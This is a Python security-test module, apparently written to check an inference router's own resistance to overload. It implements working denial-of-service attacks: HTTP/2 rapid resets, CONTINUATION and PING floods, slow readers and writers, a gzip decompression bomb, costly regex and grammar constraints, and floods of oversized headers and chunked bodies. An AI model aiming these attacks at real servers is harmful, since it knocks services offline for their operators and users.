"""Attacks by size: how many of what. Each returns what the attacker saw, by kind."""

from __future__ import annotations

import asyncio
import gzip
import re
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Iterator

import grpc

from router.v1 import inference_pb2 as pb
from router.v1.inference_pb2_grpc import InferenceServiceStub
from tests.security.attacks.wire import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GENERATE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    block,
    connected,
    frame,
    message,
    settings,
)

STREAM = "/router.v1.InferenceService/StreamGenerate"
WATCHES = {
    "health": "/grpc.health.v1.Health/Watch",
    "adapters": "/router.v1.AdapterService/WatchAdapters",
    "reflection": "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "outcomes": "/router.v1.ExperimentService/RecordOutcomes",
}
LONG = pb.StreamGenerateRequest(
    input=pb.Input(text="a b"), sampling=pb.Sampling(max_tokens=200, min_tokens=200)
).SerializeToString()
BATCH = 100  # frames in one write
Seen = Counter[str]


async def together(works: list[Awaitable[Seen]]) -> Seen:
    """All at once; the sum of what they saw."""
    seen: Seen = Counter()
    for ended in await asyncio.gather(*works, return_exceptions=True):
        if isinstance(ended, OSError | TimeoutError):
            seen["not connected"] += 1
        elif isinstance(ended, BaseException):
            raise ended
        else:
            seen += ended
    return seen


async def calls(
    address: str,
    path: str,
    number: int,
    seconds: float,
    body: bytes = b"",
    said: dict[int, int] | None = None,
) -> Seen:
    """So many calls on one connection, with that DATA or none, left alone for a while."""
    connection = await Connection.open(address, said)
    head = block(path)
    for stream in range(1, 2 * number, 2):
        await connection.send(
            frame(HEADERS, END_HEADERS, stream, head)
            + (frame(DATA, END_STREAM, stream, body) if body else b"")
        )
    await connection.gone(seconds)
    return await connection.close()


async def half_open(address: str, number: int, connections: int = 1, seconds: float = 3) -> Seen:
    """Calls that send headers and no body."""
    each = number // connections
    return await together([calls(address, GENERATE, each, seconds) for _ in range(connections)])


async def silent(address: str, number: int, seconds: float = 7) -> Seen:
    """Connections that say nothing at all."""

    async def one() -> Seen:
        reader, writer = await connected(address)
        try:
            async with asyncio.timeout(seconds):
                await reader.read()
            return Counter(closed=1)
        except TimeoutError:
            return Counter(open=1)
        finally:
            writer.close()

    return await together([one() for _ in range(number)])


async def idle(address: str, number: int, seconds: float = 3) -> Seen:
    """Connections that greet and then do nothing."""
    return await together([calls(address, GENERATE, 0, seconds) for _ in range(number)])


async def rapid_resets(address: str, number: int, connections: int = 1) -> Seen:
    """Calls that are cancelled as soon as they are made."""
    head = block(GENERATE)

    async def one(each: int) -> Seen:
        connection = await Connection.open(address)
        for first in range(0, each, BATCH):
            streams = range(2 * first + 1, 2 * (first + BATCH), 2)
            one_by_one = (
                frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in streams
            )
            if not await connection.send(b"".join(one_by_one)):
                break
        await connection.gone(0.2)
        return await connection.close()

    return await together([one(number // connections) for _ in range(connections)])


async def slow_readers(address: str, number: int, connections: int = 1, seconds: float = 3) -> Seen:
    """Answers that nobody reads: windows of no byte."""
    each, said = number // connections, {INITIAL_WINDOW_SIZE: 0}
    works = [calls(address, STREAM, each, seconds, message(LONG), said) for _ in range(connections)]
    return await together(works)


async def tiny_windows(address: str, number: int, seconds: float = 3) -> Seen:
    """Answers that are read byte by byte."""
    connection = await Connection.open(address, {INITIAL_WINDOW_SIZE: 1})
    streams = range(1, 2 * number, 2)
    for stream in streams:
        await connection.send(frame(HEADERS, END_HEADERS, stream, block(STREAM)))
        await connection.send(frame(DATA, END_STREAM, stream, message(LONG)))
    more = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\x01") for stream in streams)
    for _ in range(int(seconds * 20)):
        await connection.send(more)
        await asyncio.sleep(0.05)
    return await connection.close()


async def slow_writers(address: str, number: int, connections: int = 1, seconds: float = 3) -> Seen:
    """Bodies that come byte by byte."""

    async def one(each: int) -> Seen:
        connection = await Connection.open(address)
        streams = range(1, 2 * each, 2)
        for stream in streams:
            await connection.send(frame(HEADERS, END_HEADERS, stream, block(GENERATE)))
            await connection.send(frame(DATA, 0, stream, message(bytes(1000))[:5]))
        for _ in range(int(seconds)):
            await connection.send(b"".join(frame(DATA, 0, stream, b"\n") for stream in streams))
            await connection.gone(1)
        return await connection.close()

    return await together([one(number // connections) for _ in range(connections)])


async def metadata(address: str, number: int, size: int = 20_000) -> Seen:
    """Calls with so many bytes of metadata."""
    connection = await Connection.open(address)
    head = block(GENERATE, [("x-large", "v" * size)])
    for stream in range(1, 2 * number, 2):
        parts = [head[at : at + 16_000] for at in range(0, len(head), 16_000)]
        kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
        flags = [0] * (len(parts) - 1) + [END_HEADERS]
        await connection.send(
            b"".join(
                frame(kind, flag, stream, part) for kind, flag, part in zip(kinds, flags, parts, strict=True)
            )
        )
    await connection.answers(number)
    return await connection.close()


async def repeated(address: str, first: bytes, unit: bytes, number: int, answers: int = 0) -> Seen:
    """One frame again and again; so many calls should end by it."""
    connection = await Connection.open(address)
    await connection.send(first)
    for _ in range(0, number, BATCH):
        if not await connection.send(unit * BATCH):
            break
    await connection.answers(answers)
    await connection.gone(0.5)
    return await connection.close()


async def pings(address: str, number: int) -> Seen:
    """PING frames."""
    return await repeated(address, b"", frame(PING, 0, 0, bytes(8)), number)


async def setting_frames(address: str, number: int) -> Seen:
    """SETTINGS frames, each of which is to be acknowledged."""
    return await repeated(address, b"", settings({INITIAL_WINDOW_SIZE: 65_535}), number)


async def acknowledgements(address: str, number: int) -> Seen:
    """Acknowledgements of settings that nobody sent."""
    return await repeated(address, b"", frame(SETTINGS, ACK, 0), number)


async def continuations(address: str, number: int) -> Seen:
    """A header block without end, 8 kB a frame."""
    unit = frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x7f\xc1\x3d" + b"v" * 8_000)
    return await repeated(address, frame(HEADERS, 0, 1, block(GENERATE)), unit, number, 1)


async def empty_frames(address: str, number: int) -> Seen:
    """DATA frames of no byte."""
    first = frame(HEADERS, END_HEADERS, 1, block(GENERATE))
    return await repeated(address, first, frame(DATA, 0, 1), number)


async def empty_messages(address: str, number: int) -> Seen:
    """Messages of no byte on a stream that takes any number."""
    first = frame(HEADERS, END_HEADERS, 1, block(WATCHES["outcomes"]))
    return await repeated(address, first, frame(DATA, 0, 1, message(b"")), number, 1)


async def bomb(address: str, number: int, megabytes: int = 60) -> Seen:
    """Messages that become 60 MB each: as much as fits in the window that a call begins with."""
    zeros = gzip.compress(bytes(megabytes << 20), 9)
    connection = await Connection.open(address)
    body = message(zeros, compressed=True)
    for stream in range(1, 2 * number, 2):
        head = block(GENERATE, [("grpc-encoding", "gzip")])
        await connection.send(frame(HEADERS, END_HEADERS, stream, head))
        for at in range(0, len(body), 15_000):
            await connection.send(frame(DATA, 0, stream, body[at : at + 15_000]))
    await connection.answers(number)
    return await connection.close()


async def answered(address: str, requests: Iterable[pb.GenerateRequest], seconds: float = 20) -> Seen:
    """These requests on one connection, compressed, until all have ended."""
    connection, number = await Connection.open(address), 0
    head = block(GENERATE, [("grpc-encoding", "gzip")])
    for number, request in enumerate(requests, 1):
        body = message(gzip.compress(request.SerializeToString()), compressed=True)
        stream = 2 * number - 1
        await connection.send(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)
        )
    await connection.answers(number, seconds)
    return await connection.close()


async def long_prompts(address: str, number: int, connections: int = 4, seconds: float = 20) -> Seen:
    """Prompts of almost 2 MiB: digits, which are a token each in most vocabularies."""
    request = pb.GenerateRequest(input=pb.Input(text="7" * 2_000_000))
    each = number // connections
    return await together([answered(address, [request] * each, seconds) for _ in range(connections)])


async def constraints(address: str, number: int, connections: int = 4, seconds: float = 20) -> Seen:
    """Answers that are to follow an expression, each another one that takes long to compile."""

    def requests(first: int) -> Iterator[pb.GenerateRequest]:
        for n in range(first, number, connections):
            sampling = pb.Sampling(regex=f"({n}[a-z]{{1,900}}){{1,900}}", max_tokens=1)
            yield pb.GenerateRequest(input=pb.Input(text="a b"), sampling=sampling)

    return await together([answered(address, requests(n), seconds) for n in range(connections)])


AMBIGUOUS = 'start: s\ns: s s | s s s | "a" | "b" | "ab" | "ba"'


async def ambiguous(address: str, number: int, seconds: float = 20) -> Seen:
    """So many streams at once, each again as soon as it ends, of a grammar whose rows grow."""
    sampling = pb.Sampling(grammar=AMBIGUOUS, max_tokens=200, min_tokens=200, temperature=1.0)
    request = pb.StreamGenerateRequest(input=pb.Input(text="Write letters."), sampling=sampling)
    end = asyncio.get_running_loop().time() + seconds
    async with grpc.aio.insecure_channel(address) as channel:

        async def one() -> Seen:
            seen: Seen = Counter()
            while asyncio.get_running_loop().time() < end:
                try:
                    async for _ in InferenceServiceStub(channel).StreamGenerate(request, timeout=60):
                        pass
                    seen["whole"] += 1
                except grpc.aio.AioRpcError as error:
                    seen[f"{error.code().name}: {error.details()}"] += 1
            return seen

        return await together([one() for _ in range(number)])


async def watches(address: str, number: int, connections: int = 1, kind: str = "health") -> Seen:
    """Calls without an end."""
    body = message(b"") if kind in ("health", "adapters") else b""
    each = number // connections
    return await together([calls(address, WATCHES[kind], each, 3, body) for _ in range(connections)])


async def scrapes(address: str, number: int) -> Seen:
    """GETs of the metrics, all at once."""

    async def one() -> Seen:
        reader, writer = await connected(address)
        writer.write(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
        answer = await asyncio.wait_for(reader.read(), 20)
        writer.close()
        return Counter({answer[9:12].decode() or "hung up": 1})

    return await together([one() for _ in range(number)])


async def slow_http(address: str, number: int, seconds: float = 3) -> Seen:
    """GETs that come byte by byte, and answers that nobody reads."""

    async def one(reads: bool) -> Seen:
        _, writer = await connected(address)
        writer.write(b"GET /met" if reads else b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
        await asyncio.sleep(seconds)
        writer.close()
        return Counter(ended=1)

    return await together([one(bool(n % 2)) for n in range(number)])


TO_CHAT = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
TO_NOTHING = b"POST /nothing HTTP/1.1\r\nHost: localhost\r\n"
GET_NOTHING = b"GET /nothing HTTP/1.1\r\nHost: localhost\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
FRAMINGS = {  # what each connection begins with, and what it then repeats
    "chunks": (TO_CHAT + CHUNKED, b"1\r\na\r\n"),
    "unread_chunks": (TO_NOTHING + CHUNKED, b"1\r\na\r\n"),
    "extensions": (TO_CHAT + CHUNKED, b"1;" + b"x" * 100 + b"\r\na\r\n"),
    "long_extensions": (TO_CHAT + CHUNKED, b"1;" + b"x" * 10_000 + b"\r\na\r\n"),
    "long_sizes": (TO_CHAT + CHUNKED, b"0" * 19 + b"1\r\na\r\n"),
    "size_line": (TO_CHAT + CHUNKED + b"1;", b"x"),
    "trailer": (TO_CHAT + CHUNKED + b"0\r\n", b"a:\n"),
    "trailers": (b"", TO_NOTHING + CHUNKED + b"0\r\n" + b"a:\n" * 4_000 + b"\n"),
    "header": (GET_NOTHING + b"X-Large: ", b"x"),
    "headers": (GET_NOTHING, b"a:\n"),
    "many_headers": (b"", GET_NOTHING + b"a:\n" * 4_000 + b"\r\n"),
    "allowed_headers": (b"", GET_NOTHING + b"a:\n" * 90 + b"\r\n"),
    "folded_headers": (b"", GET_NOTHING + b"a:\n" + b" x\n" * 4_000 + b"\r\n"),
    "pipelined": (b"", GET_NOTHING + b"\r\n"),
    "pipelined_chunks": (b"", TO_NOTHING + CHUNKED + b"0\r\n\r\n"),
    "unread_body": (TO_NOTHING + b"Content-Length: 1000000\r\n\r\n", b"x"),
}


async def framings(address: str, number: int, kind: str, size: int = 1_000_000, seconds: float = 5) -> Seen:
    """Connections that send so many bytes of one of FRAMINGS as fast as they are taken."""
    first, repeated = FRAMINGS[kind]
    sent = first + repeated * ((size - len(first)) // len(repeated))

    async def one() -> Seen:
        reader, writer = await connected(address)
        answers: Seen = Counter()
        try:
            writer.write(sent)
            async with asyncio.timeout(seconds):
                while part := await reader.read(1 << 16):
                    answers += Counter(code.decode() for code in re.findall(rb"HTTP/1.1 (\d+)", part))
            answers["closed"] += 1
        except TimeoutError:
            answers["open"] += 1
        except ConnectionError:
            answers["reset"] += 1
        finally:
            writer.transport.abort()
        return answers

    return await together([one() for _ in range(number)])


async def json_lists(
    address: str,
    number: int,
    size: int = 2 << 20,
    entry: str | int = "{}",
    content_type: str = "application/json",
) -> Seen:
    """Chats over HTTP that are a list of the smallest values; each on a connection of its own."""
    head = b'{"model":"auto","messages":['
    entries = f"{entry},".encode()
    body = head + entries * ((size - len(head) - 8) // len(entries)) + b"{}]}"
    request = (
        f"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: {content_type}\r\n"
        f"Origin: https://elsewhere.example\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()

    async def one() -> Seen:
        reader, writer = await connected(address)
        try:
            writer.write(request)
            writer.write(body)
            answer = await asyncio.wait_for(reader.readuntil(b"\r\n"), 60)
        finally:
            writer.transport.abort()
        return Counter({answer[9:12].decode(): 1})

    return await together([one() for _ in range(number)])


async def empty_chats(address: str, number: int, megabytes: int = 2, connections: int = 4) -> Seen:
    """Chats of empty messages, two bytes each, of so many megabytes."""
    content = b"\n\0" * ((megabytes << 19) - 16)
    body = _field(1, _field(2, content))

    async def one(channel: grpc.aio.Channel) -> Seen:
        try:
            await channel.unary_unary(GENERATE)(body, timeout=60)
        except grpc.aio.AioRpcError as error:
            return Counter({error.code().name: 1})
        return Counter(OK=1)

    own = ("grpc.use_local_subchannel_pool", 1)
    channels = [grpc.aio.insecure_channel(address, options=(own,)) for _ in range(connections)]
    try:
        return await together([one(channels[i % connections]) for i in range(number)])
    finally:
        for channel in channels:
            await channel.close()


def _field(number: int, content: bytes) -> bytes:
    """A field of bytes on the wire, its length in five bytes."""
    size = len(content)
    length = bytes([size >> shift & 127 | (128 if shift < 28 else 0) for shift in range(0, 35, 7)])
    return bytes([number << 3 | 2]) + length + content


ATTACKS: dict[str, Callable[..., Awaitable[Seen]]] = {
    attack.__name__: attack
    for attack in (
        half_open,
        silent,
        idle,
        rapid_resets,
        slow_readers,
        tiny_windows,
        slow_writers,
        metadata,
        pings,
        setting_frames,
        acknowledgements,
        continuations,
        empty_frames,
        empty_messages,
        bomb,
        long_prompts,
        constraints,
        ambiguous,
        watches,
        scrapes,
        slow_http,
        framings,
        json_lists,
        empty_chats,
    )
}
